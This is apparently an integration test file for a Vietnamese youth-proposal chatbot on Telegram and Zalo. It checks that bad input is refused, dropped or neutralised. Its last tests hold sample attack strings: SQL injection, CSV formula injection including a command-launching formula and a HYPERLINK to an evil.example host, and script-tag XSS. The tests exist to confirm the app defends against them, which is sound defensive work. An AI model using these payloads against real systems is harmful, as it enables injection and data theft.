import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createClaimCode, findUnitByCode } from "../../src/domain/roles.js";
import type { TestDatabase } from "../support/database.js";
import { received } from "../support/engagement.js";
import type { FakeTelegram } from "../support/fake-telegram.js";
import type { FakeZalo } from "../support/fake-zalo.js";
import { onboard, postWebhook, TelegramYouth } from "../support/telegram-youth.js";
import { onboardOnZalo, postZaloWebhook, ZaloYouth } from "../support/zalo-youth.js";
import { type BotProcess, figures, sleep } from "./support/bot-process.js";
import { faultStage } from "./support/stage.js";
import { fileOnTelegram, fileOnZalo } from "./support/filing.js";
import { csvRows, exportFile, officeApi, officeWebPage, staffToken, xlsxCells, type OfficeApi } from "./support/office.js";

const TELEGRAM_MAX = 4096;
const ZALO_MAX = 2000;
/** Long enough to show the bot what was dropped did not simply take longer. */
const SILENCE_MS = 400;

// The app, its database and the platforms, for the whole file: each test leaves them as the next finds them.
const stage = faultStage("file");
let database: TestDatabase;
let telegram: FakeTelegram;
let zalo: FakeZalo;
let bot: BotProcess;
let api: OfficeApi;
let adminToken: string;
let dialogueId: number;
/** Youth who send only ordinary messages: after every bad input one of them must still be served. */
let onTelegram: TelegramYouth;
let onZalo: ZaloYouth;

const tally = { cases: 0, clearAnswers: 0, dropped: 0, unauthorized: 0, badRequests: 0, tooLarge: 0, servedAfter: 0, storedVerbatim: 0 };

beforeAll(async () => {
  ({ database, telegram, zalo } = stage);
  bot = await stage.start({ webhook: true, pipeStderr: true });
  adminToken = await staffToken(database);
  api = officeApi(bot.url, adminToken);
  dialogueId = (await database.prisma.dialogue.findFirstOrThrow()).id;
  onTelegram = new TelegramYouth(telegram, 7001, bot.telegramWebhook);
  onZalo = new ZaloYouth(zalo, "z-7001", bot.zaloWebhook);
  await onboard(onTelegram);
  await onboardOnZalo(onZalo);
});

afterAll(async () => {
  const errorsLogged = bot?.stderr.split("\n").filter((line) => line.includes('"level":50')).length;
  const sends = telegram.calls.filter((c) => c.method === "sendMessage").map((c) => String(c.body.text ?? ""));
  const zaloSends = zalo.calls.filter((c) => c.method === "sendMessage").map((c) => String(c.body.text ?? ""));
  figures("bad-input", {
    ...tally,
    // Errors the app logged (LOG_LEVEL=error): bad input is warned about, never an error.
    errorsLogged,
    // What the platforms would have refused: a message over their limit.
    platformRefusals: sends.filter((t) => t.length > TELEGRAM_MAX).length + zaloSends.filter((t) => [...t].length > ZALO_MAX).length,
    running: bot?.running,
  });
  expect(errorsLogged).toBe(0);
});

/** After a bad input: the process is up and an ordinary message on each platform is answered. */
async function stillServing() {
  expect(bot.running).toBe(true);
  expect((await onTelegram.send("/help"))[0]!.text).toContain("/submit");
  expect((await onZalo.send("/help"))[0]).toContain("/submit");
  tally.servedAfter++;
}

/** A message the bot must answer with words, not an error; its replies, each within the platform's limit. */
function answeredClearly(texts: string[], max: number, expected: string | RegExp) {
  tally.cases++;
  expect(texts.join("\n")).toMatch(expected);
  expect(texts.join("\n")).not.toContain("đã có lỗi");
  for (const text of texts) expect([...text].length).toBeLessThanOrEqual(max);
  tally.clearAnswers++;
}

/** Posts what the bot must drop: a 200 so the platform stops redelivering it, and nothing said to anyone. */
async function dropped(post: () => Promise<Response>) {
  tally.cases++;
  const before = telegram.sent.length + zalo.sent.length;
  expect((await post()).status).toBe(200);
  await sleep(SILENCE_MS);
  expect(telegram.sent.length + zalo.sent.length).toBe(before);
  tally.dropped++;
}

/** Parts within `max` that neither start nor end inside an emoji: no lone surrogate, no dangling joiner or modifier. */
function wholeEmoji(parts: string[], max: number) {
  const broken = /^[\u200d\udc00-\udfff\ufe0f]|^\p{Emoji_Modifier}|[\u200d\ud800-\udbff]$/u;
  // Telegram counts UTF-16 units, Zalo (as its fake does) characters.
  const lengths = parts.map((part) => (max === TELEGRAM_MAX ? part.length : [...part].length));
  expect(Math.max(...lengths)).toBeLessThanOrEqual(max);
  expect(parts.filter((part) => broken.test(part)).map((part) => `…${part.slice(-12)} | ${part.slice(0, 12)}…`)).toEqual([]);
}

/** `count` short Vietnamese words: 4 characters each with its space. */
const words = (count: number) => Array.from({ length: count }, (_, i) => `từ${i % 10}`).join(" ");

describe("bad input to the running app: each gets a clear answer or is dropped, and the next message is served", () => {
  it("text over a platform's limit: refused in words within the limit; a long echo split into parts the platform takes", async () => {
    const youth = new TelegramYouth(telegram, 7101, bot.telegramWebhook);
    await onboard(youth);
    // At the menu, where only a choice is read.
    answeredClearly((await youth.send(words(1500))).map((m) => m.text), TELEGRAM_MAX, "chọn một mục");
    // Where the proposal is written: 6 000 characters and one word of 10 000.
    await youth.send("/submit");
    await youth.tap("Việc làm, khởi nghiệp");
    await youth.tap("Phường");
    answeredClearly((await youth.send(words(1500))).map((m) => m.text), TELEGRAM_MAX, /tối đa 2\.000 ký tự \(bạn viết 5\.999\)/);
    answeredClearly((await youth.send("a".repeat(10_000))).map((m) => m.text), TELEGRAM_MAX, /tối đa 2\.000 ký tự/);
    // A name of 6 000 characters.
    await youth.send("/profile");
    await youth.tap("Sửa họ tên");
    answeredClearly((await youth.send(words(1500))).map((m) => m.text), TELEGRAM_MAX, "Họ tên chỉ gồm chữ cái");
    await youth.send("/cancel");

    // The longest proposal allowed, echoed for review on Zalo: over 2000 with its frame, so split.
    const longest = `Đề nghị ${words(2000)}`.slice(0, 2000).trimEnd();
    const zaloYouth = new ZaloYouth(zalo, "z-7101", bot.zaloWebhook);
    await onboardOnZalo(zaloYouth);
    answeredClearly(await zaloYouth.send(words(1500)), ZALO_MAX, "chọn một mục");
    await zaloYouth.send("/submit");
    await zaloYouth.send("2");
    await zaloYouth.send("1");
    answeredClearly(await zaloYouth.send(words(1500)), ZALO_MAX, /tối đa 2\.000 ký tự/);
    const review = await zaloYouth.send(longest);
    tally.cases++;
    expect(review.length).toBeGreaterThan(1);
    for (const part of review) expect([...part].length).toBeLessThanOrEqual(ZALO_MAX);
    expect(review.join("")).toContain("từ9 từ0");
    const fileMine = /(\d)\. Vẫn gửi kiến nghị của tôi/.exec(review.join("\n"));
    if (fileMine) await zaloYouth.send(fileMine[1]!);
    const code = /PS-\d{4}-\d{4}/.exec((await zaloYouth.send("1")).join("\n"))?.[0];
    expect(code).toBeDefined();
    expect((await database.prisma.proposal.findUniqueOrThrow({ where: { code: code! } })).text).toBe(longest);
    tally.clearAnswers++;

    // An answer of 4 996 characters from the office (5 000 allowed) reaches the youth in parts on both platforms.
    const tgCode = await fileOnTelegram(youth, `Đề nghị ${words(400)}`);
    const answer = `Trả lời: ${words(1247)}`;
    const tgBefore = telegram.sentTo(7101).length;
    const zaloBefore = zalo.sentTo("z-7101").length;
    for (const c of [code!, tgCode]) {
      const { id } = await database.prisma.proposal.findUniqueOrThrow({ where: { code: c } });
      expect((await api("PATCH", `/api/proposals/${id}`, { body: { status: "ANSWERED", answer } })).status).toBe(200);
    }
    const tgParts = (await telegram.turn(7101, tgBefore)).map((m) => m.text);
    const zaloParts = (await zalo.turn("z-7101", zaloBefore)).map((m) => m.text);
    tally.cases += 2;
    expect(tgParts.length).toBeGreaterThan(1);
    expect(tgParts.join("")).toContain(answer.slice(-40));
    expect(zaloParts.length).toBeGreaterThan(2);
    expect(zaloParts.join("")).toContain(answer.slice(-40));
    // The proposal and its answer shown together on Telegram: over 4096, its buttons under the last part.
    await youth.send("/my");
    const detail = await youth.tap(tgCode, 2);
    tally.cases++;
    expect(detail.length).toBeGreaterThan(1);
    expect(detail.at(-1)!.buttons.length).toBeGreaterThan(0);
    tally.clearAnswers += 3;
    await stillServing();
  });

  it("a leader's announcement over both limits: refused clearly when too long; the longest allowed previewed and delivered in parts", async () => {
    const leader = new ZaloYouth(zalo, "z-7151", bot.zaloWebhook);
    await onboardOnZalo(leader, "4", "Đỗ Văn Bí Thư");
    const code = await database.db.transaction(async (tx) =>
      createClaimCode(tx, { role: "LEADER", unit: (await findUnitByCode(tx, "TH-BS-PS-KP4"))!, createdBy: "test", expiresAt: new Date(Date.now() + 86_400_000), now: new Date() }),
    );
    expect((await leader.send(`/claim ${code}`)).join("\n")).toContain("Đã kích hoạt vai trò");
    await leader.send("/announce");
    answeredClearly(await leader.send(words(1500)), ZALO_MAX, /từ \d+ đến 3\.000 ký tự \(bạn vừa nhập 5\.999\)/);
    const news = `Thông báo: ${words(748)}`.slice(0, 3000);
    const preview = await leader.send(news);
    tally.cases++;
    expect(preview.length).toBeGreaterThan(1);
    expect(preview.join(" ")).toContain(news.slice(-30));
    expect(preview.at(-1)).toMatch(/1\. Gửi/);
    expect((await leader.send("1")).join("\n")).toContain("Đã xếp lịch gửi");
    // The members on Zalo (the youth kept for "still serving" is one) get every word, in parts Zalo takes.
    const last = await received(zalo, "z-7001", news.slice(-30), 10_000);
    const parts = zalo.sentTo("z-7001").slice(-3).map((m) => m.text);
    tally.cases++;
    expect(last).toContain(news.slice(-30));
    expect(parts.join(" ")).toContain(news.slice(12, 60));
    tally.clearAnswers += 2;
    await received(zalo, "z-7151", "Tổng số người nhận", 10_000);
    await stillServing();
  });

  it("Vietnamese typed decomposed (NFD): stored as NFC, and a choice typed so matches", async () => {
    const zaloYouth = new ZaloYouth(zalo, "z-7201", bot.zaloWebhook);
    const nfd = (s: string) => s.normalize("NFD");
    // Every choice by its words, decomposed: consent, announcements, the branch, no phone.
    for (const answer of ["Xin chào", nfd("Tôi đồng ý"), nfd("Có"), nfd("Lê Thị Hồng Nhung"), "2003", nfd("Chi đoàn Khu phố 3")]) await zaloYouth.send(answer);
    expect(await zaloYouth.send(nfd("Bỏ qua"))).toEqual(expect.arrayContaining([expect.stringContaining("Bạn muốn làm gì?")]));
    const text = "Đề nghị phường tổ chức lớp học tiếng Anh miễn phí cho thanh niên khu phố vào cuối tuần.";
    const code = await fileOnZalo(zaloYouth, nfd(text));
    const participant = await database.prisma.participant.findFirstOrThrow({ where: { proposals: { some: { code } } } });
    expect(participant.fullName).toBe("Lê Thị Hồng Nhung");
    expect((await database.prisma.proposal.findUniqueOrThrow({ where: { code } })).text).toBe(text);
    // Over the office's API too.
    const topic = await api("POST", `/api/dialogues/${dialogueId}/topics`, { body: { nameVi: nfd("Văn hoá, thể thao cho thanh niên") } });
    expect(topic.status).toBe(201);
    expect((await database.prisma.topic.findUniqueOrThrow({ where: { id: topic.body.id } })).nameVi).toBe("Văn hoá, thể thao cho thanh niên");
    tally.cases += 4;
    tally.storedVerbatim += 4;
    await stillServing();
  });

  it("emoji and ZWJ sequences: kept whole in a proposal, refused kindly where words are expected, never split inside", async () => {
    const youth = new TelegramYouth(telegram, 7301, bot.telegramWebhook);
    await onboard(youth);
    const family = "👨‍👩‍👧‍👦";
    const text = `Đề nghị ${family} sân chơi cho gia đình trẻ 🏳️‍🌈 và 👍🏽 khu vui chơi 🇻🇳 cho thiếu nhi.`;
    const code = await fileOnTelegram(youth, text);
    expect((await database.prisma.proposal.findUniqueOrThrow({ where: { code } })).text).toBe(text);
    tally.storedVerbatim++;
    // Emoji where a choice or a name is asked.
    answeredClearly((await youth.send(`${family}🎉`)).map((m) => m.text), TELEGRAM_MAX, "chọn một mục");
    await youth.send("/profile");
    await youth.tap("Sửa họ tên");
    answeredClearly((await youth.send(`An ${family}`)).map((m) => m.text), TELEGRAM_MAX, "Họ tên chỉ gồm chữ cái");
    await youth.send("/cancel");
    // On Zalo, 280 ZWJ families with no space between (one "word" of 3 080 units): cut between families, never inside one.
    const zaloYouth = new ZaloYouth(zalo, "z-7301", bot.zaloWebhook);
    await onboardOnZalo(zaloYouth);
    await zaloYouth.send("/submit");
    await zaloYouth.send("2");
    await zaloYouth.send("1");
    const families = await zaloYouth.send(`Đề nghị ${family.repeat(280)}`);
    tally.cases++;
    expect(families.length).toBeGreaterThan(1);
    wholeEmoji(families, ZALO_MAX);
    expect(families.join("").split(family).length - 1).toBe(280);
    await zaloYouth.send("/cancel");
    // The office answers in 450 families (4 950 UTF-16 units, no space): the Telegram message is cut between families.
    const { id } = await database.prisma.proposal.findUniqueOrThrow({ where: { code } });
    const before = telegram.sentTo(7301).length;
    expect((await api("PATCH", `/api/proposals/${id}`, { body: { status: "ANSWERED", answer: family.repeat(450) } })).status).toBe(200);
    const answered = (await telegram.turn(7301, before)).map((m) => m.text);
    tally.cases++;
    expect(answered.length).toBeGreaterThan(1);
    wholeEmoji(answered, TELEGRAM_MAX);
    expect(answered.join("").split(family).length - 1).toBe(450);
    tally.clearAnswers += 2;
    await stillServing();
  });

  it("control characters and broken UTF-16 in a proposal: kept out of what is stored, sent and exported; the XLSX still opens", async () => {
    const zaloYouth = new ZaloYouth(zalo, "z-7351", bot.zaloWebhook);
    await onboardOnZalo(zaloYouth);
    const typed = "Đề nghị\u0000 phường\u0001 hỗ trợ\u000b thanh niên\u001f học nghề \ud83d miễn phí\uffff cho khu phố\ufffe.";
    const code = await fileOnZalo(zaloYouth, typed);
    const stored = (await database.prisma.proposal.findUniqueOrThrow({ where: { code } })).text;
    expect(stored).toBe("Đề nghị phường hỗ trợ thanh niên học nghề \ufffd miễn phí cho khu phố.");
    const sent = [...telegram.sent, ...zalo.sent].map((m) => m.text);
    const unsendable = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
    expect(sent.filter((text) => unsendable.test(text))).toEqual([]);
    // The office types them too (U+FFFF makes an XLSX no spreadsheet opens): stored as sent, left out of the file.
    const { id } = await database.prisma.proposal.findUniqueOrThrow({ where: { code } });
    const answer = "Phường\u0002 đã bố trí\uffff lớp học nghề\ufffe từ tháng sau.";
    expect((await api("PATCH", `/api/proposals/${id}`, { body: { status: "ANSWERED", answer } })).status).toBe(200);
    const cells = await xlsxCells(await exportFile(bot.url, adminToken, dialogueId, "xlsx"));
    expect(cells.some((c) => c.value === stored)).toBe(true);
    expect(cells.some((c) => c.value === "Phường đã bố trí lớp học nghề từ tháng sau.")).toBe(true);
    tally.cases += 4;
    tally.clearAnswers += 4;
    await stillServing();
  });

  it("callback data forged, stale, over 64 bytes or without its message: a stale choice is said so, the rest dropped", async () => {
    answeredClearly((await onTelegram.tapData("p99999:0")).map((m) => m.text), TELEGRAM_MAX, "tin nhắn cũ");
    answeredClearly((await onTelegram.tapData("p1:999")).map((m) => m.text), TELEGRAM_MAX, "tin nhắn cũ");
    const callback = (data: string, withMessage = true) => ({
      update_id: telegram.newUpdateId(),
      callback_query: {
        id: "cb",
        from: { id: 7001, is_bot: false, first_name: "An" },
        chat_instance: "1",
        data,
        ...(withMessage ? { message: { message_id: 1, date: 0, chat: { id: 7001, type: "private" } } } : {}),
      },
    });
    for (const data of ["x".repeat(65), `p1:0${"0".repeat(100)}`, "p1:0; DROP TABLE Proposal", "", "p-1:0", "🙂".repeat(20)])
      await dropped(() => postWebhook(bot.telegramWebhook, callback(data)));
    await dropped(() => postWebhook(bot.telegramWebhook, callback("p1:0", false)));
    await stillServing();
  });

  it("unknown Zalo events and malformed bodies to both webhooks: a 200 and nothing said; a body over 1 MB is a 413", async () => {
    for (const event of ["user.follow", "message.location.received", "", "x".repeat(5000)])
      await dropped(() => postZaloWebhook(bot.zaloWebhook, zalo.event("z-7001", event, { text: "/help" })));
    const malformed = ["{", "not json", "", "null", "[]", "123", '"text"', '{"update_id":"x"}', '{"message":"hi"}', '{"update_id":1,"message":{"chat":5}}'];
    for (const body of malformed) await dropped(() => postWebhook(bot.telegramWebhook, body));
    // Well-formed, but nothing the bot answers: a group, an edit.
    for (const update of [
      { message: { message_id: 1, chat: { id: -100, type: "group" }, text: "/help" } },
      { edited_message: { message_id: 1, chat: { id: 7001, type: "private" }, text: "/help" } },
    ])
      await dropped(() => postWebhook(bot.telegramWebhook, { update_id: telegram.newUpdateId(), ...update }));
    for (const body of [...malformed, '{"event_name":"message.text.received","message":{"message_id":"","chat":{"id":""}}}', '{"event_name":1}'])
      await dropped(() => postZaloWebhook(bot.zaloWebhook, body));
    const huge = JSON.stringify(onTelegram.messageUpdate({ text: "a".repeat(2_000_000) }));
    for (const post of [() => postWebhook(bot.telegramWebhook, huge), () => postZaloWebhook(bot.zaloWebhook, huge)]) {
      tally.cases++;
      expect((await post()).status).toBe(413);
      tally.tooLarge++;
    }
    await stillServing();
  });

  describe("over long polling", () => {
    // A second app of its own, polling its own fakes.
    const polled = faultStage();
    it("malformed updates and unknown events are skipped too, and the next message is served", async () => {
      const { telegram: polledTelegram, zalo: polledZalo } = polled;
      const polling = await polled.start({ webhook: false, pipeStderr: true });
      const onTg = new TelegramYouth(polledTelegram, 7501, null);
      const onZl = new ZaloYouth(polledZalo, "z-7501", null);
      const malformedTelegram = [{ update_id: polledTelegram.newUpdateId(), message: "hi" }, { update_id: polledTelegram.newUpdateId(), message: { chat: 5 } }, { update_id: polledTelegram.newUpdateId(), callback_query: { id: 1 } }];
      for (const update of malformedTelegram) polledTelegram.queue(update);
      for (const body of [{ event_name: "user.follow", message: { message_id: "x1", chat: { id: "z-7501" } } }, { event_name: 7 }, { message: null }, null])
        polledZalo.queue(body as unknown as Record<string, unknown>);
      tally.cases += 7;
      expect((await onTg.send("/start"))[0]!.text).toContain("Chào bạn!");
      expect((await onZl.send("Xin chào"))[0]).toContain("Chào bạn!");
      // Nothing was said for what was skipped: the welcome is each chat's first message.
      expect(polledTelegram.sentTo(7501)[0]!.text).toContain("Chào bạn!");
      expect(polledZalo.sentTo("z-7501")[0]!.text).toContain("Chào bạn!");
      expect(polling.running).toBe(true);
      expect(polling.stderr.split("\n").filter((line) => line.includes('"level":50'))).toEqual([]);
      tally.dropped += 7;
    });
  });

  it("a wrong or missing webhook secret is a 401 and the update is not handled", async () => {
    const before = telegram.sentTo(7001).length + zalo.sentTo("z-7001").length;
    const tgUpdate = () => onTelegram.messageUpdate({ text: "/help" });
    const zaloUpdate = () => zalo.text("z-7001", "/help");
    const attempts = [
      () => postWebhook(bot.telegramWebhook, tgUpdate(), "wrong-secret-0123456789"),
      () => postWebhook(bot.telegramWebhook, tgUpdate(), ""),
      () => fetch(bot.telegramWebhook.webhookUrl, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(tgUpdate()) }),
      // Each platform's secret opens its own webhook only.
      () => postZaloWebhook(bot.zaloWebhook, zaloUpdate(), "wrong-secret-0123456789"),
      () => postZaloWebhook(bot.zaloWebhook, zaloUpdate(), null),
      () => postZaloWebhook(bot.zaloWebhook, zaloUpdate(), ""),
    ];
    for (const attempt of attempts) {
      tally.cases++;
      expect((await attempt()).status).toBe(401);
      tally.unauthorized++;
    }
    await sleep(SILENCE_MS);
    expect(telegram.sentTo(7001).length + zalo.sentTo("z-7001").length).toBe(before);
    await stillServing();
  });

  it("the office API: wrong types and bad JSON are 400s naming the field, huge bodies 413, no token 401; SQL- and formula-looking text is stored verbatim", async () => {
    const proposalsBefore = await database.prisma.proposal.count();
    const bad: [string, string, { body?: unknown; raw?: string }][] = [
      ["POST", "/api/dialogues", { body: { hostUnit: 5, title: ["x"], theme: null, startsAt: "tomorrow", venue: {}, format: "party", codePrefix: "p1", topics: "all" } }],
      ["PATCH", `/api/dialogues/${dialogueId}`, { body: { startsAt: 1_700_000_000 } }],
      ["PATCH", `/api/dialogues/${dialogueId}`, { body: {} }],
      ["PUT", `/api/dialogues/${dialogueId}/quotas/TH-BS-PS-KP1`, { body: { seats: "5" } }],
      ["PUT", `/api/dialogues/${dialogueId}/quotas/TH-BS-PS-KP1`, { body: { seats: -1 } }],
      ["POST", `/api/dialogues/${dialogueId}/topics`, { body: { nameVi: 42 } }],
      ["POST", `/api/dialogues/${dialogueId}/topics`, { body: [1, 2] }],
      ["POST", `/api/dialogues/${dialogueId}/topics`, { body: { nameVi: "Chủ đề hợp lệ", extra: true } }],
      ["PATCH", "/api/proposals/1", { body: { status: 3 } }],
      ["PATCH", "/api/proposals/abc", { body: { status: "ANSWERED", answer: "Đã trả lời đầy đủ." } }],
      ["POST", "/api/groups/1/split", { body: { proposals: ["1"] } }],
      ["GET", `/api/dialogues/${dialogueId}/proposals?pageSize=abc&status=LOST`, {}],
      ["GET", `/api/dialogues/${dialogueId}/proposals/export?format=exe`, {}],
      ["GET", `/api/dialogues/${dialogueId}/proposals?from=yesterday`, {}],
      ["POST", `/api/dialogues/${dialogueId}/topics`, { raw: '{"nameVi": "unterminated' }],
      ["POST", `/api/dialogues/${dialogueId}/topics`, { raw: "nameVi=abc" }],
    ];
    for (const [method, path, opts] of bad) {
      tally.cases++;
      const answer = await api(method, path, opts);
      expect(answer.status, `${method} ${path}`).toBe(400);
      expect(answer.body.error).toMatch(/invalid_request|invalid_json/);
      if (answer.body.error === "invalid_request") expect(answer.body.details[0].field).toBeTypeOf("string");
      tally.badRequests++;
    }
    for (const size of [200_000, 20_000_000]) {
      tally.cases++;
      const answer = await api("POST", `/api/dialogues/${dialogueId}/topics`, { raw: JSON.stringify({ nameVi: "x".repeat(size) }) });
      expect(answer.status).toBe(413);
      tally.tooLarge++;
    }
    tally.cases++;
    expect((await api("GET", "/api/dialogues", { token: null })).status).toBe(401);
    tally.unauthorized++;

    const verbatim = [
      `Robert'); DROP TABLE "Proposal";--`,
      `' OR '1'='1`,
      `1; DELETE FROM "Participant" WHERE 1=1`,
      `=1+2`,
      `+cmd|' /C calc'!A0`,
      `@SUM(A1:A9)`,
      `-2+3 chủ đề`,
      `=HYPERLINK("http://evil.example","Bấm vào đây")`,
    ];
    for (const name of verbatim) {
      tally.cases++;
      const created = await api("POST", `/api/dialogues/${dialogueId}/topics`, { body: { nameVi: name, nameEn: name } });
      expect(created.status, name).toBe(201);
      const shown = await api("GET", `/api/dialogues/${dialogueId}`);
      expect(shown.body.topics.find((x: { id: number }) => x.id === created.body.id)).toMatchObject({ nameVi: name, nameEn: name });
      tally.storedVerbatim++;
    }
    const filters = await api("GET", `/api/dialogues/${dialogueId}/proposals?branch=${encodeURIComponent("' OR 1=1 --")}`);
    tally.cases++;
    expect(filters.status).toBe(404);
    tally.clearAnswers++;
    expect(await database.prisma.proposal.count()).toBe(proposalsBefore);
    expect(await database.prisma.participant.count()).toBeGreaterThan(0);
    await stillServing();
  });

  it("HTML in a proposal and an answer is shown as text on the office page and in the conclusion, never run", async () => {
    const youth = new TelegramYouth(telegram, 7451, bot.telegramWebhook);
    await onboard(youth);
    const text = `<script>alert("x")</script><img src=x onerror=alert(2)> đề nghị phường mở thêm lớp kỹ năng sống`;
    const code = await fileOnTelegram(youth, text);
    const { id } = await database.prisma.proposal.findUniqueOrThrow({ where: { code } });
    const answer = `</textarea><b onmouseover=alert(3)>Phường</b> sẽ mở lớp từ tháng sau.`;
    expect((await api("PATCH", `/api/proposals/${id}`, { body: { status: "ANSWERED", answer } })).status).toBe(200);
    const page = await officeWebPage(bot.url, adminToken, `/admin/dialogues/${dialogueId}`);
    const conclusion = await api("GET", `/api/dialogues/${dialogueId}/conclusion`);
    for (const html of [page.html, conclusion.body as string]) {
      tally.cases++;
      expect(html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;");
      expect(html).not.toMatch(/<script|<img src=x|<b onmouseover|<\/textarea><b/);
      tally.clearAnswers++;
    }
    expect(page.status).toBe(200);
    await stillServing();
  });

  it("a proposal starting =HYPERLINK( is exported as text: a quoted-off CSV field and an XLSX string cell, never a formula", async () => {
    const youth = new TelegramYouth(telegram, 7401, bot.telegramWebhook);
    await onboard(youth);
    const text = `=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây") đề nghị hỗ trợ vốn khởi nghiệp cho thanh niên`;
    const code = await fileOnTelegram(youth, text);
    const { id } = await database.prisma.proposal.findUniqueOrThrow({ where: { code } });
    const answer = `=1+2 @SUM(A1) trả lời: phường đã xem xét đề nghị`;
    expect((await api("PATCH", `/api/proposals/${id}`, { body: { status: "ANSWERED", answer } })).status).toBe(200);
    expect((await database.prisma.proposal.findUniqueOrThrow({ where: { id } })).text).toBe(text);

    const rows = csvRows(await exportFile(bot.url, adminToken, dialogueId, "csv"));
    const row = rows.find((r) => r.includes(code))!;
    tally.cases += 2;
    expect(row).toContain(`'${text}`);
    expect(row).toContain(`'${answer}`);
    for (const field of rows.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);

    const cells = await xlsxCells(await exportFile(bot.url, adminToken, dialogueId, "xlsx"));
    const risky = cells.filter((c) => String(c.value ?? "").includes("=HYPERLINK(") || String(c.value ?? "").includes("=1+2"));
    tally.cases += 2;
    expect(risky.length).toBeGreaterThanOrEqual(2);
    for (const cell of risky) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    const json = JSON.parse((await exportFile(bot.url, adminToken, dialogueId, "json")).toString("utf8"));
    expect(JSON.stringify(json)).toContain(JSON.stringify(text).slice(1, -1));
    tally.storedVerbatim++;
    tally.clearAnswers += 4;
    await stillServing();
  });
});
